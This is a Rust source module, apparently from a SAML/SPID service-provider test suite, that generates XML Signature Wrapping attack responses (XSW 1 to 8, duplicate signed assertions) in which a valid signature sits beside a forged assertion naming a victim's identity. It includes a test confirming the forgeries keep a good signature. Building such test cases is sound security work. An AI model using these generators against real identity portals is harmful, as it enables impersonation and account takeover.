//! Signature wrapping: documents in which a good signature covers something else than what a
//! careless reader reads (XSW 1 to 8, Somorovsky and others, 2012). Namespaces are kept, so that a
//! refusal is for the right reason.

use super::answer::{AFTER_ISSUER, Statement};
use super::keys::KeyError;
use super::problems::Cast;
use super::sign::sign;

const SIGNATURE_END: &str = "</ds:Signature>";

/// The parts that every variant arranges anew.
struct Parts {
    /// The good assertion, signed.
    signed: String,
    /// The good assertion without its signature.
    bare: String,
    /// That signature.
    signature: String,
    /// An assertion about the victim, not signed.
    forged: String,
}

fn parts(statement: &Statement, cast: &Cast<'_>) -> Result<Parts, KeyError> {
    let bare = statement.assertion();
    let signed = sign(&bare, &statement.assertion_id, AFTER_ISSUER, cast.key)?;
    Ok(Parts {
        signature: signature_of(&signed).ok_or(KeyError::Sign)?,
        signed,
        bare,
        forged: forged(statement, cast).assertion(),
    })
}

fn forged(statement: &Statement, cast: &Cast<'_>) -> Statement {
    Statement {
        assertion_id: cast.forged_id.clone(),
        attributes: cast.victim.clone(),
        ..statement.clone()
    }
}

/// The first signature of a document.
fn signature_of(signed: &str) -> Option<String> {
    let start = signed.find("<ds:Signature ")?;
    let end = signed.find(SIGNATURE_END)? + SIGNATURE_END.len();
    signed.get(start..end).map(str::to_owned)
}

fn insert_after(text: &str, mark: &str, piece: &str) -> String {
    text.replacen(mark, &format!("{mark}{piece}"), 1)
}

fn insert_before(text: &str, mark: &str, piece: &str) -> String {
    text.replacen(mark, &format!("{piece}{mark}"), 1)
}

/// A response about the victim with the good one's signature, changed by `arrange`.
fn around_response(
    statement: &Statement,
    cast: &Cast<'_>,
    arrange: impl Fn(&str, &str) -> String,
) -> Result<String, KeyError> {
    let parts = parts(statement, cast)?;
    let bare = statement.response(&parts.signed);
    let signed = sign(&bare, &statement.response_id, AFTER_ISSUER, cast.key)?;
    let signature = signature_of(&signed).ok_or(KeyError::Sign)?;
    let evil = Statement {
        response_id: format!("{}r", cast.forged_id),
        ..statement.clone()
    };
    Ok(evil.response_with(&arrange(&bare, &signature), &parts.forged))
}

pub(super) fn xsw1(statement: &Statement, cast: &Cast<'_>) -> Result<String, KeyError> {
    around_response(statement, cast, |bare, signature| {
        insert_before(signature, SIGNATURE_END, bare)
    })
}

pub(super) fn xsw2(statement: &Statement, cast: &Cast<'_>) -> Result<String, KeyError> {
    around_response(statement, cast, |bare, signature| format!("{bare}{signature}"))
}

pub(super) fn xsw3(statement: &Statement, cast: &Cast<'_>) -> Result<String, KeyError> {
    let parts = parts(statement, cast)?;
    Ok(statement.response(&format!("{}{}", parts.forged, parts.signed)))
}

pub(super) fn xsw4(statement: &Statement, cast: &Cast<'_>) -> Result<String, KeyError> {
    let parts = parts(statement, cast)?;
    Ok(statement.response(&insert_before(&parts.forged, "</saml:Assertion>", &parts.signed)))
}

pub(super) fn xsw5(statement: &Statement, cast: &Cast<'_>) -> Result<String, KeyError> {
    let parts = parts(statement, cast)?;
    let evil = insert_after(&parts.forged, AFTER_ISSUER, &parts.signature);
    Ok(statement.response(&format!("{evil}{}", parts.bare)))
}

pub(super) fn xsw6(statement: &Statement, cast: &Cast<'_>) -> Result<String, KeyError> {
    let parts = parts(statement, cast)?;
    let signature = insert_before(&parts.signature, SIGNATURE_END, &parts.bare);
    Ok(statement.response(&insert_after(&parts.forged, AFTER_ISSUER, &signature)))
}

pub(super) fn xsw7(statement: &Statement, cast: &Cast<'_>) -> Result<String, KeyError> {
    let parts = parts(statement, cast)?;
    let extensions = format!("<samlp:Extensions>{}</samlp:Extensions>", parts.forged);
    Ok(statement.response_with(&extensions, &parts.signed))
}

pub(super) fn xsw8(statement: &Statement, cast: &Cast<'_>) -> Result<String, KeyError> {
    let parts = parts(statement, cast)?;
    let object = format!("<ds:Object>{}</ds:Object>", parts.bare);
    let signature = insert_before(&parts.signature, SIGNATURE_END, &object);
    Ok(statement.response(&insert_after(&parts.forged, AFTER_ISSUER, &signature)))
}

/// Two assertions, both really signed by the provider, about two people.
pub(super) fn two_assertions(statement: &Statement, cast: &Cast<'_>) -> Result<String, KeyError> {
    let parts = parts(statement, cast)?;
    let second = sign(&parts.forged, &cast.forged_id, AFTER_ISSUER, cast.key)?;
    let response = statement.response(&format!("{}{second}", parts.signed));
    sign(&response, &statement.response_id, AFTER_ISSUER, cast.key)
}

#[cfg(test)]
mod tests {
    use super::super::attributes::Attribute;
    use super::super::keys::SigningKey;
    use super::super::problems::Problem;
    use super::super::verify;
    use super::*;
    use chrono::{DateTime, TimeDelta};

    fn person(code: &str) -> Vec<Attribute> {
        vec![
            ("name", "Giulia".into()),
            ("fiscalNumber", format!("TINIT-{code}")),
        ]
    }

    fn statement() -> Statement {
        let now = DateTime::UNIX_EPOCH;
        let later = now + TimeDelta::minutes(5);
        let text = |text: &str| text.to_owned();
        Statement {
            response_id: text("_r"),
            assertion_id: text("_a"),
            issued: now,
            in_response_to: Some(text("_q")),
            destination: text("https://sp.example/acs"),
            issuer: text("https://idp.example"),
            audience: text("https://sp.example"),
            recipient: text("https://sp.example/acs"),
            not_before: now,
            not_on_or_after: later,
            subject_not_on_or_after: later,
            name_id: text("_n"),
            level_class: text("https://www.spid.gov.it/SpidL2"),
            session_index: None,
            native: Vec::new(),
            attributes: person("SRRGLI85D52B354O"),
        }
    }

    /// Otherwise the portal would refuse them for a broken signature, and the attack would not be
    /// tried at all. (XSW 1, 6 and 8 need a reader whose enveloped-signature transform is careless
    /// too: by the standard it drops what stands inside the signature.)
    #[test]
    fn wrapped_documents_still_bear_a_good_signature_and_a_forged_identity() {
        let key = SigningKey::make("Gestore Prova").unwrap();
        let stranger = SigningKey::make("Gestore Prova").unwrap();
        let cast = Cast {
            key: &key,
            stranger: &stranger,
            other_idp: ("https://other.example", &stranger),
            victim: person("MLSMRC83S03B354W"),
            forged_id: "_f".into(),
        };
        for problem in [
            Problem::Xsw2,
            Problem::Xsw3,
            Problem::Xsw4,
            Problem::Xsw5,
            Problem::Xsw7,
            Problem::TwoAssertions,
            Problem::Comment,
        ] {
            let xml = problem.write(&statement(), &cast).unwrap();
            assert!(verify::anywhere(&xml, &key.certificate), "{}", problem.slug());
            assert!(
                !verify::anywhere(&xml, &stranger.certificate),
                "{}",
                problem.slug()
            );
            if problem != Problem::Comment {
                assert!(xml.contains("TINIT-MLSMRC83S03B354W"), "{}", problem.slug());
            }
        }
    }
}
